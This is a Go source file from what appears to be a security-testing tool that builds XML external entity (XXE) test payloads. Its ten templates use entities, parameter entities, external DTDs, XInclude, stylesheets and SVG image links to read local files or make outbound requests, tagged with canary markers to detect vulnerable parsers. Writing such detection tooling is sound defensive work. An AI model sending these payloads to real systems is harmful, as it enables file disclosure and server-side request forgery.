package attack

import (
	"strings"

	"github.com/mcpsf/mcpsf"
)

// xxeSecrets is the first index of the files that entities name.
const xxeSecrets = 96

func xxe() Class {
	return Class{
		ID:    "xxe",
		Title: "XML is read in a way that follows its references",
		Yield: kinds{"xml": 100, "markup": 35, "data": 20, "text": 10, "unknown": 10}.
			about(prose(80), "xml", "svg", "rss", "feed", "soap", "xslt", "sitemap", "docx", "gpx", "kml"),
		Payloads: xxePayloads,
		Balanced: 3,
	}
}

func xxePayloads(w *World, p Place) []Payload {
	var all []Payload
	for i, f := range []struct {
		text string
		sign mcpsf.AttackSign
		why  string
	}{
		{`<!DOCTYPE r [<!ENTITY x SYSTEM "file://§">]><r>&x;</r>`, mcpsf.SignOpen, "entity that is a file"},
		{`<!DOCTYPE r [<!ENTITY x SYSTEM "http://§/x">]><r>&x;</r>`, mcpsf.SignRequest, "entity that is elsewhere"},
		{`<!DOCTYPE r [<!ENTITY % x SYSTEM "file://§"> %x;]><r/>`, mcpsf.SignOpen, "parameter entity that is a file"},
		{`<!DOCTYPE r [<!ENTITY % x SYSTEM "http://§/x.dtd"> %x;]><r/>`, mcpsf.SignRequest, "parameter entity that is elsewhere"},
		{`<!DOCTYPE r SYSTEM "http://§/r.dtd"><r/>`, mcpsf.SignRequest, "definition that is elsewhere"},
		{`<!DOCTYPE r [<!ENTITY x SYSTEM "§">]><r>&x;</r>`, mcpsf.SignOpen, "entity that is a path"},
		{`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file://§"/></r>`, mcpsf.SignOpen, "inclusion of a file"},
		{`<?xml-stylesheet type="text/xsl" href="http://§/x.xsl"?><r/>`, mcpsf.SignRequest, "style sheet that is elsewhere"},
		{`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" xlink:href="http://§/x.png"/></svg>`, mcpsf.SignRequest, "picture that is elsewhere"},
		{`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" xlink:href="file://§"/></svg>`, mcpsf.SignOpen, "picture that is a file"},
	} {
		marker := w.Word("xxe", i) + "." + w.Zone
		if f.sign == mcpsf.SignOpen {
			marker = w.Secret(xxeSecrets + i)
		}
		all = append(all, Payload{Value: prolog(p) + fill(f.text, "", marker), Sign: f.sign, Marker: marker, Why: f.why})
	}
	return all
}

// prolog returns the beginning of the ordinary value if that is XML.
func prolog(p Place) string {
	if strings.HasPrefix(p.text(), "<?xml") {
		return `<?xml version="1.0"?>`
	}
	return ""
}
